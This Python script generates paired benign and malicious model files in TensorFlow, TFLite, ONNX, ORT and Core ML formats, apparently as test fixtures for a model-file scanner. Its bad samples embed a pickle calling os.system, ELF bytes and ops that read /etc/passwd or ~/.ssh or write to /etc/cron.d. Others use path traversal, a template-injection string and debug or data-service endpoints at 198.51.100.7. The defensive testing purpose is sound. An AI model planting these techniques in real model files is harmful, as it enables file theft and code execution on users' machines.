#!/usr/bin/env python3
"""Makes the samples of graph formats beside this script: `samples/<format>/{bad,good}-<case>`.

Usage: python3 make_graph_samples.py      # with tensorflow, onnx, onnxruntime, coremltools, openvino, paddlepaddle, sentencepiece installed
Each library is optional: what is missing leaves its samples alone. Payloads only run `true`. A good sample is what the library itself
writes, a bad one is the same with one technique added. Expectations are blessed as in make_samples.py.
"""
import io, os, pathlib, random, struct, subprocess, sys, tempfile, zipfile

os.environ.update(TF_CPP_MIN_LOG_LEVEL="3", CUDA_VISIBLE_DEVICES="", GLOG_minloglevel="3")
HERE = pathlib.Path(__file__).parent / "samples"
BYTES_MAX = 26_000
MADE = {}
PICKLE = b"\x80\x04\x95\x19\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R."
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 57


def add(name, data):
    MADE[name] = data if isinstance(data, bytes) else data.encode()


def field(number, wire, body):
    out, tag = b"", number << 3 | wire
    while tag > 127:
        out, tag = out + bytes([tag & 127 | 128]), tag >> 7
    return out + bytes([tag]) + body


def delimited(number, body):
    length, out = len(body), b""
    while length > 127:
        out, length = out + bytes([length & 127 | 128]), length >> 7
    return field(number, 2, out + bytes([length]) + body)


def tensorflow():
    import numpy as np, tensorflow as tf
    from tensorflow.core.framework import attr_value_pb2, graph_pb2, types_pb2
    from tensorflow.core.protobuf import meta_graph_pb2, saved_model_pb2, trackable_object_graph_pb2
    from tensorflow.python.keras.protobuf import saved_metadata_pb2

    work = pathlib.Path(tempfile.mkdtemp())
    text = work / "vocabulary.txt"
    text.write_text("a\nb\nc\n")

    class Module(tf.Module):
        def __init__(self):
            self.weights_ = tf.Variable([[1.0, 2.0], [3.0, 4.0]])
            lookup = tf.lookup
            source = lookup.TextFileInitializer(str(text), tf.string, lookup.TextFileIndex.WHOLE_LINE, tf.int64, lookup.TextFileIndex.LINE_NUMBER)
            self.table = lookup.StaticVocabularyTable(source, 2)
            self.asset = tf.saved_model.Asset(str(text))

        @tf.function(input_signature=[tf.TensorSpec([None, 2], tf.float32, name="x"), tf.TensorSpec([None], tf.string, name="words")])
        def serve(self, x, words):
            total = tf.constant(0.0)
            for step in tf.range(3):
                total += tf.cast(step, tf.float32)
            return {"y": x @ self.weights_ + total, "ids": self.table.lookup(words)}

    module = Module()
    tf.saved_model.save(module, str(work / "saved"), signatures=module.serve)
    saved = (work / "saved/saved_model.pb").read_bytes()
    add("tensorflow/good-saved_model.pb", saved)
    add("tensorflow/good-fingerprint.pb", (work / "saved/fingerprint.pb").read_bytes())
    add("checkpoint/good-variables.index", (work / "saved/variables/variables.index").read_bytes())
    index = (work / "saved/variables/variables.index").read_bytes()
    model = tf.keras.Sequential([tf.keras.layers.Input((4,)), tf.keras.layers.Dense(2)])
    model.export(str(work / "export"), verbose=False)
    add("tensorflow/good-keras_export.pb", (work / "export/saved_model.pb").read_bytes())
    add("checkpoint/good-variables.data", (work / "export/variables/variables.data-00000-of-00001").read_bytes())
    checkpoint = tf.train.Checkpoint(module=module)
    checkpoint.save(str(work / "points/model"))
    add("checkpoint/good-checkpoint", (work / "points/checkpoint").read_bytes())
    v1 = tf.compat.v1
    with tf.Graph().as_default(), v1.Session() as session:
        x = v1.placeholder(tf.float32, [None, 2], "x")
        weights = v1.get_variable("w", [2, 2])
        y = tf.identity(tf.matmul(x, weights), "y")
        session.run(v1.global_variables_initializer())
        v1.train.Saver().save(session, str(work / "v1/model"))
        frozen = v1.graph_util.convert_variables_to_constants(session, session.graph_def, ["y"])
        add("tensorflow/good-frozen.pb", frozen.SerializeToString())
        add("tensorflow/good-frozen.pbtxt", str(frozen))
        add("tensorflow/good-graph.meta", (work / "v1/model.meta").read_bytes())
        add("checkpoint/good-v1.index", (work / "v1/model.index").read_bytes())
        v1.saved_model.simple_save(session, str(work / "simple"), {"x": x}, {"y": y})
        add("tensorflow/good-simple_save.pb", (work / "simple/saved_model.pb").read_bytes())

    def node(nodes, name, op, inputs=(), **attributes):
        made = nodes.add(name=name, op=op, input=list(inputs))
        for key, value in attributes.items():
            if isinstance(value, str):
                made.attr[key].tensor.dtype = 7
                made.attr[key].tensor.string_val.append(value.encode())
                made.attr["dtype"].type = 7
            else:
                made.attr[key].CopyFrom(value)
        return made

    # One graph for each operator that reaches outside, built by TensorFlow itself.
    raw = tf.raw_ops

    def graph(name, build):
        with tf.Graph().as_default() as made:
            try:
                build()
            except Exception as error:
                return print(f"tensorflow/{name}: {error!r}"[:200], file=sys.stderr)
            data = made.as_graph_def().SerializeToString()
        add(f"tensorflow/{name}.pb", data)

    def datasets(source):
        return tf.constant([source])

    graph("bad-read_file", lambda: raw.ReadFile(filename="/etc/passwd"))
    graph("bad-read_file_fed", lambda: raw.ReadFile(filename=v1.placeholder(tf.string)))
    graph("bad-write_file", lambda: raw.WriteFile(filename="x", contents="true"))
    graph("bad-matching_files", lambda: raw.MatchingFiles(pattern="/root/.ssh/*"))
    graph("bad-py_func", lambda: raw.PyFunc(input=[tf.constant(1)], token="pyfunc_0", Tout=[tf.int32]))
    graph("bad-py_func_stateless", lambda: raw.PyFuncStateless(input=[tf.constant(1)], token="pyfunc_0", Tout=[tf.int32]))
    graph("bad-eager_py_func", lambda: raw.EagerPyFunc(input=[tf.constant(1)], token="pyfunc_0", Tout=[tf.int32]))
    graph("bad-numpy_function", lambda: tf.numpy_function(lambda x: x, [tf.constant(1)], tf.int32))
    graph("bad-save_absolute", lambda: raw.SaveV2(prefix="/etc/cron.d/x", tensor_names=["a"], shape_and_slices=[""], tensors=[tf.constant(1)]))
    graph("bad-save_up", lambda: raw.SaveV2(prefix=tf.strings.join(["..", "..", "x"], "/"), tensor_names=["a"], shape_and_slices=[""], tensors=[tf.constant(1)]))
    graph("bad-save_decoded", lambda: raw.SaveV2(prefix=tf.io.decode_base64("L2V0Yy94"), tensor_names=["a"], shape_and_slices=[""], tensors=[tf.constant(1)]))
    graph("bad-restore_url", lambda: raw.RestoreV2(prefix="gs://bucket/x", tensor_names=["a"], shape_and_slices=[""], dtypes=[tf.int32]))
    graph("bad-merge_checkpoints", lambda: raw.MergeV2Checkpoints(checkpoint_prefixes=["/root/a"], destination_prefix="/root/b"))
    graph("bad-sql_dataset", lambda: raw.SqlDataset(driver_name="sqlite", data_source_name="/root/x.db", query="select 1", output_types=[tf.int32], output_shapes=[[]]))
    graph("bad-text_line_dataset", lambda: raw.TextLineDataset(filenames=datasets("/etc/passwd"), compression_type="", buffer_size=0))
    graph("bad-tf_record_dataset", lambda: raw.TFRecordDataset(filenames=datasets("data.tfrecord"), compression_type="", buffer_size=0))
    graph("bad-fixed_length_dataset", lambda: raw.FixedLengthRecordDataset(filenames=datasets("/dev/mem"), header_bytes=0, record_bytes=1, footer_bytes=0, buffer_size=0))
    graph("bad-csv_dataset", lambda: tf.data.experimental.CsvDataset("/etc/passwd", [tf.string]))
    graph("bad-load_dataset", lambda: raw.LoadDataset(path="/root/x", reader_func_other_args=[], output_types=[tf.int32], output_shapes=[[]], reader_func=tf.function(lambda x: x).get_concrete_function(tf.TensorSpec([], tf.variant))))
    graph("bad-matching_dataset", lambda: raw.MatchingFilesDataset(patterns="/root/*"))
    graph("bad-debug_identity", lambda: raw.DebugIdentity(input=tf.constant(1), debug_urls=["grpc://198.51.100.7:6064"]))
    graph("bad-debug_identity_file", lambda: raw.DebugNumericSummary(input=tf.constant(1.0), debug_urls=["file:///tmp/x"]))
    graph("bad-print_to_file", lambda: tf.print("x", output_stream="file:///tmp/x"))
    graph("bad-immutable_const", lambda: raw.ImmutableConst(dtype=tf.uint8, shape=[1], memory_region_name="/etc/passwd"))
    graph("bad-table_absolute", lambda: raw.InitializeTableFromTextFileV2(table_handle=raw.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64), filename="/etc/passwd", key_index=-2, value_index=-1))
    graph("bad-decode_proto", lambda: raw.DecodeProtoV2(bytes=[b""], message_type="x", field_names=[], output_types=[], descriptor_source="/etc/passwd"))
    graph("bad-remote_call", lambda: raw.RemoteCall(target="/job:w/task:0", args=[tf.constant(1)], Tout=[tf.int32], f=tf.function(lambda x: x).get_concrete_function(tf.TensorSpec([], tf.int32))))
    graph("bad-data_service", lambda: raw.RegisterDatasetV2(dataset=raw.RangeDataset(start=0, stop=1, step=1, output_types=[tf.int64], output_shapes=[[]]), address="198.51.100.7:80", protocol="grpc", external_state_policy=1))
    graph("bad-summary_writer", lambda: raw.CreateSummaryFileWriter(writer=raw.SummaryWriter(), logdir="/root/x", max_queue=1, flush_millis=1, filename_suffix=""))
    graph("bad-cache_dataset", lambda: raw.CacheDataset(input_dataset=raw.RangeDataset(start=0, stop=1, step=1, output_types=[tf.int64], output_shapes=[[]]), filename="/root/x", output_types=[tf.int64], output_shapes=[[]]))
    graph("bad-lmdb", lambda: raw.LMDBDataset(filenames="/root/x", output_types=[tf.string, tf.string], output_shapes=[[], []]))
    graph("bad-whole_file_reader", lambda: raw.WholeFileReaderV2())
    graph("bad-record_input", lambda: raw.RecordInput(file_pattern="/root/*"))
    native = graph_pb2.GraphDef()
    node(native.node, "native", "XlaCustomCallV2")
    add("tensorflow/bad-xla_custom_call.pb", native.SerializeToString())
    def assigned(name):
        variable = raw.VarHandleOp(dtype=tf.string, shape=[])
        with tf.control_dependencies([raw.AssignVariableOp(resource=variable, value=name)]):
            return raw.ReadVariableOp(resource=variable, dtype=tf.string)

    def save(prefix):
        return raw.SaveV2(prefix=prefix, tensor_names=["a"], shape_and_slices=[""], tensors=[tf.constant(1)])

    graph("bad-save_variable", lambda: save(assigned(tf.constant("/etc/cron.d/x"))))
    graph("bad-save_checkpointed", lambda: save(raw.ReadVariableOp(resource=raw.VarHandleOp(dtype=tf.string, shape=[]), dtype=tf.string)))
    graph("bad-save_glued", lambda: save(tf.strings.join(["", "/etc/cron.d/x"])))
    graph("bad-save_separator", lambda: save(tf.strings.join(["", "etc", "cron.d", "x"], "/")))
    graph("bad-save_cut", lambda: save(tf.strings.join([tf.strings.substr(v1.placeholder(tf.string, []), 0, 0), "/etc/cron.d/x"])))
    graph("bad-save_template", lambda: save(tf.strings.format("/etc/cron.d/{}", tf.constant(1))))
    graph("good-save_assigned", lambda: save(assigned(v1.placeholder(tf.string, []))))
    graph("good-save_fed", lambda: save(tf.strings.join([v1.placeholder(tf.string, []), "/variables/variables"])))
    graph("good-dataset_fed", lambda: raw.TextLineDataset(filenames=v1.placeholder(tf.string, [None]), compression_type="", buffer_size=0))
    graph("good-print", lambda: tf.print("x"))
    graph("good-saver", lambda: (tf.Variable(1.0), v1.train.Saver(v1.global_variables() or [v1.get_variable("v", [])])))

    def edited(name, message, change):
        message.meta_graphs[0].meta_info_def.ClearField("stripped_op_list")
        for function in message.meta_graphs[0].graph_def.library.function[8:]:
            function.ClearField("node_def")
        change(message)
        add(f"tensorflow/{name}", message.SerializeToString())

    def parse(kind, data):
        message = kind()
        message.ParseFromString(data)
        return message

    def saved_model():
        return parse(saved_model_pb2.SavedModel, saved)

    def in_function(message):
        function = message.meta_graphs[0].graph_def.library.function[0]
        node(function.node_def, "name_", "Const", value="/etc/passwd")
        node(function.node_def, "read_", "ReadFile", ["name_:output:0"])

    def through_call(message):
        library = message.meta_graphs[0].graph_def.library
        function = library.function.add()
        function.signature.name = "inner"
        function.signature.input_arg.add(name="where", type=7)
        node(function.node_def, "save", "SaveV2", ["where", "where", "where"])
        node(message.meta_graphs[0].graph_def.node, "where_", "Const", value="/etc/cron.d/x")
        call = node(message.meta_graphs[0].graph_def.node, "call_", "StatefulPartitionedCall", ["where_"])
        call.attr["f"].func.name = "inner"

    def primitive(message):
        call = node(message.meta_graphs[0].graph_def.node, "call_", "PartitionedCall")
        call.attr["f"].func.name = "WriteFile"

    def asset(message):
        message.meta_graphs[0].asset_file_def[0].filename = "../../../../etc/passwd"

    def shadow(message):
        message.meta_graphs[0].graph_def.library.function.add().signature.name = "MatMul"

    def custom(message):
        node(message.meta_graphs[0].graph_def.node, "custom", "MyPrivateOp")

    def payload(message):
        made = node(message.meta_graphs[0].graph_def.node, "weights", "Const")
        made.attr["value"].tensor.dtype = 4
        made.attr["value"].tensor.tensor_content = ELF

    def hidden_pickle(message):
        node(message.meta_graphs[0].graph_def.node, "text", "Const").attr["value"].tensor.string_val.append(PICKLE)

    def inner_graph(message):
        inner = graph_pb2.GraphDef()
        node(inner.node, "a", "Const", value="/etc/passwd")
        node(inner.node, "b", "ReadFile", ["a"])
        made = node(message.meta_graphs[0].graph_def.node, "inner", "Const")
        made.attr["value"].tensor.dtype = 7
        made.attr["value"].tensor.string_val.append(inner.SerializeToString())

    def keras_lambda(message):
        message.meta_graphs[0].object_graph_def.nodes[0].user_object.identifier = "_tf_keras_layer"
        message.meta_graphs[0].object_graph_def.nodes[0].user_object.metadata = '{"class_name": "Lambda", "config": {"function": ["4wEAAAA=", null, null], "module": "os"}}'

    def packed(message):
        made = node(message.meta_graphs[0].graph_def.node, "path", "Const")
        made.attr["value"].tensor.dtype = 7
        made.attr["value"].tensor.tensor_content = bytes([11]) + b"/etc/passwd"
        node(message.meta_graphs[0].graph_def.node, "restore", "RestoreV2", ["path", "path", "path"])

    for name, change in [
        ("function", in_function), ("through_call", through_call), ("primitive_as_function", primitive), ("asset_up", asset), ("shadow", shadow),
        ("custom_op", custom), ("payload", payload), ("pickle_in_text", hidden_pickle), ("inner_graph", inner_graph), ("keras_lambda", keras_lambda),
        ("packed_text", packed),
    ]:
        edited(f"bad-saved_{name}.pb", saved_model(), change)
    small = (work / "export/saved_model.pb").read_bytes()
    add("tensorflow/bad-unknown_field.pb", small + delimited(600, PICKLE * 4))
    add("tensorflow/bad-unknown_program.pb", small + delimited(600, ELF + b"\1" * 64))
    add("tensorflow/bad-group_before.pb", b"\xe3\x12" + b"\x08\x01" * 40 + b"\xe4\x12" + MADE["tensorflow/bad-write_file.pb"])
    add("tensorflow/bad-twice.pb", b"".join(delimited(2, delimited(2, MADE[f"tensorflow/{name}.pb"])) for name in ["good-frozen", "bad-write_file"]))
    add("tensorflow/bad-truncated_name_first.pbtxt", 'node {\n  name: "a"\n  op : \'ReadFile\'\n}\n')
    meta = meta_graph_pb2.MetaGraphDef()
    meta.graph_def.ParseFromString(MADE["tensorflow/bad-write_file.pb"])
    add("tensorflow/bad-write_file.meta", meta.SerializeToString())
    keras = saved_metadata_pb2.SavedMetadata()
    keras.nodes.add(node_id=0, node_path="root", identifier="_tf_keras_sequential", metadata='{"name": "m", "class_name": "Sequential", "config": {"layers": []}}')
    add("tensorflow/good-keras_metadata.pb", keras.SerializeToString())
    keras.nodes.add(node_id=1, node_path="root.layer", identifier="_tf_keras_layer", metadata='{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAA="}}}}')
    add("tensorflow/bad-keras_metadata.pb", keras.SerializeToString())

    # Checkpoint indices: blocks are edited and their checksums made right again.
    def crc(data):
        table, value = [], 0xFFFFFFFF
        for byte in range(256):
            for _ in range(8):
                byte = byte >> 1 ^ (0x82F63B78 if byte & 1 else 0)
            table.append(byte)
        for byte in data:
            value = table[(value ^ byte) & 255] ^ value >> 8
        value ^= 0xFFFFFFFF
        return ((value >> 15 | value << 17) + 0xA282EAD8) & 0xFFFFFFFF

    def block(entries):
        body = b"".join(bytes([0]) + varint(len(key)) + varint(len(value)) + key + value for key, value in entries) + struct.pack("<II", 0, 1)
        return body, body + b"\0" + struct.pack("<I", crc(body + b"\0"))

    def varint(number):
        out = b""
        while number > 127:
            out, number = out + bytes([number & 127 | 128]), number >> 7
        return out + bytes([number])

    def table(entries, middle=b"", checksum=True):
        body, data = block(entries)
        if not checksum:
            data = data[:-1] + bytes([data[-1] ^ 1])
        data += middle
        meta_body, meta_data = block([])
        index_body, index_data = block([(b"~", varint(0) + varint(len(body)))])
        handles = varint(len(data)) + varint(len(meta_body)) + varint(len(data) + len(meta_data)) + varint(len(index_body))
        return data + meta_data + index_data + handles.ljust(40, b"\0") + struct.pack("<Q", 0xDB4775248B80FB57)

    from tensorflow.core.protobuf import tensor_bundle_pb2 as bundle
    header = (b"", bundle.BundleHeaderProto(num_shards=1).SerializeToString())

    def entry(**more):
        made = bundle.BundleEntryProto(dtype=1, **{"size": 16, **more})
        made.shape.dim.add(size=4)
        return made.SerializeToString()

    add("checkpoint/good-table.index", table([header, (b"a", entry()), (b"b", entry(offset=16))]))
    add("checkpoint/bad-size.index", table([header, (b"a", entry(size=1 << 40))]))
    add("checkpoint/bad-shard.index", table([header, (b"a", entry(shard_id=7))]))
    add("checkpoint/bad-negative.index", table([header, (b"a", entry(offset=-8))]))
    add("checkpoint/bad-overlap.index", table([header, (b"a", entry()), (b"b", entry(offset=8))]))
    add("checkpoint/bad-order.index", table([header, (b"b", entry()), (b"a", entry(offset=16))]))
    add("checkpoint/bad-gap.index", table([header, (b"a", entry())], middle=PICKLE))
    add("checkpoint/bad-checksum.index", table([header, (b"a", entry())], checksum=False))
    add("checkpoint/bad-hidden.index", table([header, (b"a", entry() + delimited(99, PICKLE))]))
    add("checkpoint/bad-state_up", 'model_checkpoint_path: "../../other/model-1"\nall_model_checkpoint_paths: "../../other/model-1"\n')
    add("checkpoint/bad-state_url", 'model_checkpoint_path: "http://198.51.100.7/model-1"\n')
    add("checkpoint/good-state_absolute", 'model_checkpoint_path: "/home/user/run/model-1"\n')

    # TFLite
    def convert(build, select=False):
        converter = tf.lite.TFLiteConverter.from_concrete_functions([build])
        if select:
            converter.target_spec.supported_ops = [tf.lite.OpsSet.TFLITE_BUILTINS, tf.lite.OpsSet.SELECT_TF_OPS]
        converter.allow_custom_ops = True
        return converter.convert()

    dense = convert(tf.function(lambda x: tf.nn.relu(x @ tf.constant(np.eye(4, dtype=np.float32)))).get_concrete_function(tf.TensorSpec([1, 4])))
    add("tflite/good-dense.tflite", dense)
    try:
        flex = convert(tf.function(lambda x: tf.raw_ops.Lgamma(x=x)).get_concrete_function(tf.TensorSpec([1, 4])), True)
        add("tflite/good-flex.tflite", flex)
    except Exception as error:
        print(f"tflite flex: {error!r}"[:200], file=sys.stderr)
    tflite(dense)


def tflite(dense):
    import flatbuffers
    from tensorflow.lite.python import schema_py_generated as schema

    def model():
        return schema.ModelT.InitFromObj(schema.Model.GetRootAsModel(bytearray(dense), 0))

    def pack(made):
        builder = flatbuffers.Builder(1024)
        builder.Finish(made.Pack(builder), b"TFL3")
        return bytes(builder.Output())

    def changed(name, change):
        made = model()
        change(made)
        add(f"tflite/{name}.tflite", pack(made))

    def custom(name):
        def change(made):
            code = schema.OperatorCodeT()
            code.deprecatedBuiltinCode, code.builtinCode, code.customCode, code.version = 32, 32, name, 1
            made.operatorCodes.append(code)
            made.subgraphs[0].operators[0].opcodeIndex = len(made.operatorCodes) - 1
        return change

    changed("good-repacked", lambda made: None)
    changed("good-detection", custom("TFLite_Detection_PostProcess"))
    changed("good-flex_erf", custom("FlexErf"))
    changed("bad-custom", custom("RunShell"))
    changed("bad-flex_read_file", custom("FlexReadFile"))
    changed("bad-flex_write_file", custom("FlexWriteFile"))
    changed("bad-flex_py_func", custom("FlexPyFunc"))
    changed("bad-flex_unknown", custom("FlexPrivateThing"))

    def external(made):
        made.externalBufferGroups = [schema.ExternalBufferGroupT()]
        made.externalBufferGroups[0].name = "../../etc/passwd"

    def linked(made):
        made.externalBufferGroups = [schema.ExternalBufferGroupT()]
        made.externalBufferGroups[0].name = "weights.bin"

    def outside(made):
        made.buffers[1].data, made.buffers[1].offset, made.buffers[1].size = None, 1 << 40, 64

    def tensor_buffer(made):
        made.subgraphs[0].tensors[0].buffer = 9999

    def tensor_index(made):
        made.subgraphs[0].operators[0].inputs[0] = 9999

    def opcode(made):
        made.subgraphs[0].operators[0].opcodeIndex = 9999

    def shape(made):
        tensor = next(t for t in made.subgraphs[0].tensors if made.buffers[t.buffer].data is not None and len(made.buffers[t.buffer].data))
        tensor.shape = [1 << 20, 1 << 20]

    def negative(made):
        made.subgraphs[0].tensors[0].shape = [-5, 4]

    def metadata(made):
        entry, buffer = schema.MetadataT(), schema.BufferT()
        entry.name, entry.buffer = "extra", len(made.buffers)
        buffer.data = list(PICKLE)
        made.metadata = (made.metadata or []) + [entry]
        made.buffers.append(buffer)

    def program(made):
        buffer = schema.BufferT()
        buffer.data = list(ELF)
        made.buffers.append(buffer)

    def options(made):
        custom("TFLite_Detection_PostProcess")(made)
        made.subgraphs[0].operators[0].customOptions = list(PICKLE)

    def disguised(made):
        """The interpreter runs the operator of the node inside, whatever the code is called."""
        from flatbuffers import flexbuffers
        custom("FlexErf")(made)
        node = delimited(1, b"n") + delimited(2, b"WriteFile")
        builder = flexbuffers.Builder()
        with builder.Vector():
            builder.String("Erf")
            builder.String(node.decode("latin-1"))
        made.subgraphs[0].operators[0].customOptions = list(builder.Finish())

    for name, change in [
        ("bad-flex_disguised", disguised), ("bad-external_path", external), ("good-external_beside", linked), ("bad-buffer_outside", outside), ("bad-tensor_buffer", tensor_buffer), ("bad-tensor_index", tensor_index),
        ("bad-opcode", opcode), ("bad-shape", shape), ("bad-negative", negative), ("bad-metadata_pickle", metadata), ("bad-buffer_program", program),
        ("bad-options_pickle", options),
    ]:
        changed(name, change)

    def appended(members):
        buffer = io.BytesIO(dense)
        with zipfile.ZipFile(buffer, "a") as archive:
            for name, data in members.items():
                archive.writestr(zipfile.ZipInfo(name), data)
        return buffer.getvalue()

    add("tflite/good-associated.tflite", appended({"labels.txt": "cat\ndog\n"}))
    add("tflite/bad-associated_pickle.tflite", appended({"labels.txt": "cat\n", "extra.pkl": PICKLE}))
    add("tflite/bad-associated_slip.tflite", appended({"../../labels.txt": "cat\n"}))
    add("tflite/bad-root_outside.tflite", struct.pack("<I", 1 << 30) + dense[4:])
    add("tflite/bad-cut.tflite", dense[: len(dense) // 2])


def onnx_models():
    import numpy as np, onnx
    from onnx import TensorProto, helper, numpy_helper

    weights = numpy_helper.from_array(np.eye(4, dtype=np.float32), "w")
    multiply = helper.make_node("MatMul", ["x", "w"], ["y"])

    def value(name):
        return helper.make_tensor_value_info(name, TensorProto.FLOAT, [1, 4])

    def model(nodes=(multiply,), tensors=(weights,), opsets=(("", 17),), **more):
        graph = helper.make_graph(list(nodes), "g", [value("x")], [value("y")], list(tensors))
        made = helper.make_model(graph, opset_imports=[helper.make_opsetid(d, v) for d, v in opsets], producer_name="ringfence", **more)
        made.ir_version = 8
        return made

    def save(name, made):
        add(f"onnx/{name}.onnx", made if isinstance(made, bytes) else made.SerializeToString())

    def external(location, **more):
        tensor = TensorProto(name="w", data_type=1, dims=[4, 4], data_location=TensorProto.EXTERNAL)
        for key, text in {"location": location, **more}.items():
            tensor.external_data.add(key=key, value=str(text))
        return model(tensors=[tensor])

    save("good-matmul", model())
    save("good-external", external("weights.bin", offset=0, length=64))
    for name, location in {
        "up": "../w", "absolute": "/etc/passwd", "drive": "C:\\w", "unc": "\\\\host\\share\\w", "encoded": "%2e%2e/w", "inner_up": "a/../../w", "backslash_up": "a\\..\\..\\w",
        "mixed": "a\\../w", "url": "file:///etc/passwd", "memory": "*/_ORT_MEM_ADDR_/*", "dots_space": ".. /w", "home": "~/w", "variable": "$HOME/w", "empty": "",
        "null": "w\0/../../x", "newline": "w\n../x",
    }.items():
        save(f"bad-external_{name}", external(location))
    save("bad-external_offset", external("w", offset=-1, length=64))
    save("bad-external_length", external("w", offset=0, length=1 << 50))
    save("bad-external_short", external("w", offset=0, length=4096))
    save("bad-external_hex", external("w", offset="0x10", length=64))
    save("bad-external_in_function", model([helper.make_node("F", ["x"], ["y"], domain="local")], [], (("", 17), ("local", 1)), functions=[helper.make_function("local", "F", ["x"], ["y"], [
        helper.make_node("Constant", [], ["w"], value=external("/etc/passwd").graph.initializer[0]), multiply], [helper.make_opsetid("", 17)])]))
    branch = helper.make_graph([helper.make_node("PyOp", ["x"], ["b"], domain="ai.onnx.contrib")], "b", [], [value("b")])
    constant = helper.make_node("Constant", [], ["c"], value=numpy_helper.from_array(np.array(True)))
    save("bad-python_in_branch", model([constant, helper.make_node("If", ["c"], ["y"], then_branch=branch, else_branch=branch)]))
    save("bad-python_standard_domain", model([helper.make_node("PythonOp", ["x"], ["y"], domain="com.microsoft", name="f")]))
    save("good-function", model([helper.make_node("F", ["x"], ["y"], domain="local")], [], (("", 17), ("local", 1)), functions=[helper.make_function("local", "F", ["x"], ["y"], [helper.make_node("Relu", ["x"], ["y"])], [helper.make_opsetid("", 17)])]))
    save("good-extensions", model([helper.make_node("StringUpper", ["x"], ["y"], domain="ai.onnx.contrib")], [], (("", 17), ("ai.onnx.contrib", 1))))
    save("good-microsoft", model([helper.make_node("Gelu", ["x"], ["y"], domain="com.microsoft")], [], (("", 17), ("com.microsoft", 1))))
    save("bad-domain", model([helper.make_node("Relu", ["x"], ["y"], domain="com.example")], [], (("", 17), ("com.example", 1))))
    save("bad-domain_lookalike", model([helper.make_node("Relu", ["x"], ["y"], domain="ai.onnx ")]))
    save("bad-extension_unlisted", model([helper.make_node("Shell", ["x"], ["y"], domain="ai.onnx.contrib")], [], (("", 17), ("ai.onnx.contrib", 1))))
    save("bad-function_shadows", model(functions=[helper.make_function("", "MatMul", ["a", "b"], ["c"], [helper.make_node("Sub", ["a", "b"], ["c"])], [helper.make_opsetid("", 17)])]))
    save("bad-opset_twice", model(opsets=(("", 17), ("ai.onnx", 7))))
    save("bad-opset_version", model(opsets=(("", 1 << 40),)))
    save("bad-raw_short", model(tensors=[TensorProto(name="w", data_type=1, dims=[4, 4], raw_data=b"\0" * 8)]))
    save("bad-raw_long", model(tensors=[TensorProto(name="w", data_type=1, dims=[4, 4], raw_data=b"\0" * 64 + PICKLE)]))
    save("bad-negative", model(tensors=[TensorProto(name="w", data_type=1, dims=[-4, 4], raw_data=b"\0" * 64)]))
    save("bad-giant", model(tensors=[TensorProto(name="w", data_type=1, dims=[1 << 30, 1 << 30])]))
    sparse = helper.make_sparse_tensor(numpy_helper.from_array(np.ones(1, np.float32), "s"), numpy_helper.from_array(np.zeros(1, np.int64), "i"), [1 << 40, 1 << 40])
    made = model()
    made.graph.sparse_initializer.append(sparse)
    save("bad-sparse_giant", made)
    save("bad-raw_program", model(tensors=[weights, TensorProto(name="p", data_type=2, dims=[len(ELF)], raw_data=ELF)]))
    save("bad-raw_pickle", model(tensors=[weights, TensorProto(name="p", data_type=2, dims=[len(PICKLE)], raw_data=PICKLE)]))
    save("bad-text_pickle", model(tensors=[weights, TensorProto(name="p", data_type=8, dims=[1], string_data=[PICKLE])]))
    save("bad-attribute_pickle", model([helper.make_node("MatMul", ["x", "w"], ["y"], note=PICKLE)]))
    made = model()
    made.metadata_props.add(key="template", value="{{ ''.__class__.__mro__[1].__subclasses__() }}")
    save("bad-metadata_template", made)
    save("bad-unknown_field", model().SerializeToString() + delimited(500, PICKLE))
    save("bad-unknown_group", model([helper.make_node("PyOp", ["x"], ["y"])]).SerializeToString() + field(500, 3, b"\x08\x01") + field(500, 4, b""))
    save("bad-graph_twice", model().SerializeToString() + delimited(7, model([helper.make_node("PyOp", ["x"], ["y"])]).graph.SerializeToString()))
    save("bad-name_not_text", model([helper.make_node("PyOp", ["x"], ["y"])]).SerializeToString() + delimited(6, b"\xff\xfe"))
    add("onnx/good-tensor.pb", weights.SerializeToString())
    nested = multiply
    for _ in range(12):
        nested = helper.make_node("If", ["c"], ["y"], then_branch=helper.make_graph([nested], "b", [], [value("y")]), else_branch=helper.make_graph([], "b", [], [value("y")]))
    save("good-nested", model([constant, nested]))
    # A graph of each kind in one file: both are read.
    add("onnx/bad-also_tensorflow.onnx", model().SerializeToString() + delimited(1, delimited(1, b"w") + delimited(2, b"WriteFile")))
    try:
        import onnxruntime
    except ImportError:
        return
    with tempfile.TemporaryDirectory() as folder:
        options = onnxruntime.SessionOptions()
        options.optimized_model_filepath = f"{folder}/m.ort"
        options.add_session_config_entry("session.save_model_format", "ORT")
        onnxruntime.InferenceSession(model().SerializeToString(), options, providers=["CPUExecutionProvider"])
        ort = pathlib.Path(folder, "m.ort").read_bytes()
    add("ort/good-matmul.ort", ort)
    add("ort/bad-python.ort", ort.replace(b"MatMul\0", b"PyFunc\0"))
    add("ort/bad-cut.ort", ort[: len(ort) // 2])
    add("ort/bad-root.ort", struct.pack("<I", 0x7FFFFFFF) + ort[4:])


def coreml():
    import coremltools as ct, numpy as np
    from coremltools.converters.mil import Builder
    from coremltools.proto import Model_pb2

    @Builder.program(input_specs=[Builder.TensorSpec(shape=(1, 4))])
    def program(x):
        return Builder.relu(x=Builder.matmul(x=x, y=np.ones((4, 300), np.float32)), name="y")

    with tempfile.TemporaryDirectory() as folder:
        ct.convert(program, convert_to="neuralnetwork").save(f"{folder}/n.mlmodel")
        network = pathlib.Path(folder, "n.mlmodel").read_bytes()
        ct.convert(program, convert_to="mlprogram").save(f"{folder}/p.mlpackage")
        package = pathlib.Path(folder, "p.mlpackage")
        spec = (package / "Data/com.apple.CoreML/model.mlmodel").read_bytes()
        blobs = (package / "Data/com.apple.CoreML/weights/weight.bin").read_bytes()
        manifest = (package / "Manifest.json").read_text()
    add("coreml/good-network.mlmodel", network)
    add("coreml/good-program.mlmodel", spec)
    add("coreml/good-weight.bin", blobs)
    add("coreml/good-Manifest.json", manifest)
    add("coreml/bad-Manifest.json", manifest.replace("com.apple.CoreML/weights", "../../../../etc"))
    add("coreml/bad-weight_outside.bin", blobs[:80] + struct.pack("<Q", 1 << 40) + blobs[88:])
    add("coreml/bad-weight_appended.bin", blobs + PICKLE.ljust(64, b"\0"))
    add("coreml/bad-weight_program.bin", blobs[:128] + ELF + blobs[128 + len(ELF):])
